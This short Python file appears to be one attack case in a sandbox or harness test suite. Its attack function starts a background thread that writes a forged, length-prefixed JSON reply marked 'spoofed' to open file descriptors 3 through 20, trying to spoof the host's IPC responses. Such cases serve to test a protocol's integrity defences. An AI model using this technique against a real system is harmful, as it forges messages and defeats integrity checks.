# desc: a thread replies when others are asked
# class: integrity
# wins: spoofs
import json
import os
import struct
import threading
import time

def later():
    time.sleep(0.05)
    reply = json.dumps({"n": 2, "ok": {"value": "spoofed"}}).encode()
    for number in range(3, 21):
        try:
            os.write(number, struct.pack("<I", len(reply)) + reply)
        except OSError:
            pass

def attack(state):
    threading.Thread(target=later, daemon=True).start()
    return "ok"
